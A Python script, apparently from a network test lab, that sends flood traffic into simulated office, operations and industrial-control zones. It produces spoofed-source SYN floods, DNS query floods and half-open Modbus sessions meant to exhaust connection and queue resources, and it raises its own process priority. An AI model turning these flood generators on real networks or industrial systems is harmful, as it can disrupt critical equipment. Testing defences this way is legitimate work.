#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Fills what the box has only so much of, as a process of its own: flood.py KIND SECONDS PREFIX MAC-OPS MAC-OT MAC-IT"""
import os
import random
import struct
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "..", "lib"))
sys.path.insert(0, os.path.join(HERE, "..", "attack"))
from modbus import read_holding  # noqa: E402
from net import Wire, ip4, tcp, udp  # noqa: E402
from packets import ACK, PSH, SYN  # noqa: E402

# A host that is not there, and an address whose host keeps its resets to itself.
OPS, OT = "10.72.0.9", "10.73.0.3"


def strangers(rng):
    """SYNs to the web server from the whole office: sessions of its interface in a naming lane."""
    for n in range(30000):
        source = "10.71.0.%d" % (10 + rng.randrange(240))
        yield "it", ip4(source, "10.72.0.3", 6, tcp(source, "10.72.0.3", 1024 + n % 60000, 443, n, 0, SYN))


def own_zone(rng):
    """SYNs of the crane's own zone into the crane's own lane, from hosts that are not there."""
    for n in range(30000):
        source = "10.72.0.%d" % (10 + rng.randrange(240))
        yield "ops", ip4(source, OT, 6, tcp(source, OT, 1024 + rng.randrange(60000), 502, n, 0, SYN))


def questions(rng):
    """Names asked from many ports: flows of the naming share of a worker."""
    for n in range(12000):
        source = "10.72.0.%d" % (10 + n % 200)
        asked = struct.pack("!HHHHHH", n & 0xffff, 0x100, 1, 0, 0, 0) + b"\4port\4test\0\0\1\0\1"
        yield "ops", ip4(source, OT, 17, udp(source, OT, 1024 + rng.randrange(60000), 53, asked))


def repeated(_rng):
    """One question, said as fast as can be: a queue overruns, and no share is full."""
    asked = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\4port\4test\0\0\1\0\1"
    for _ in range(256):
        yield "ops", ip4(OPS, OT, 17, udp(OPS, OT, 40000, 53, asked))


def kept(port):
    """Sessions with a segment of requests each that no server ever acknowledges: what was forwarded is kept until then."""
    def packets(rng):
        requests = b"".join(read_holding(0, 4, tid=n) for n in range(80))
        for n in range(4400):
            mine, at, theirs = 20000 + n, rng.randrange(1 << 32), rng.randrange(1 << 32)
            following, answered = (at + 1) & 0xffffffff, (theirs + 1) & 0xffffffff
            yield "ops", ip4(OPS, OT, 6, tcp(OPS, OT, mine, port, at, 0, SYN))
            yield "ot", ip4(OT, OPS, 6, tcp(OT, OPS, port, mine, theirs, following, SYN | ACK))
            yield "ops", ip4(OPS, OT, 6, tcp(OPS, OT, mine, port, following, answered, ACK))
            yield "ops", ip4(OPS, OT, 6, tcp(OPS, OT, mine, port, following, answered, ACK | PSH, requests))
    return packets


KINDS = {"strangers": strangers, "own_zone": own_zone, "questions": questions, "repeated": repeated, "pool_hold": kept(1502),
         "pool_commands": kept(502)}


def unhindered():
    """Who floods is another machine: what else this one has to do does not slow it down."""
    os.setpriority(os.PRIO_PROCESS, 0, -10)
    try:
        with open("/proc/self/autogroup", "w", encoding="ascii") as group:  # where sessions share the cores, that of this one
            group.write("-10")
    except OSError:
        pass


def main():
    unhindered()
    kind, seconds, prefix = sys.argv[1], float(sys.argv[2]), sys.argv[3]
    wires = {zone: Wire(prefix + zone, "eth0", mac) for zone, mac in zip(("ops", "ot", "it"), sys.argv[4:7])}
    packets = list(KINDS[kind](random.Random(7)))
    end, sent = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        for zone, packet in packets:
            try:
                wires[zone].send(packet)
                sent += 1
            except OSError:
                pass
            if sent % 256 == 0 and time.monotonic() > end:
                break
    print(sent)


if __name__ == "__main__":
    main()
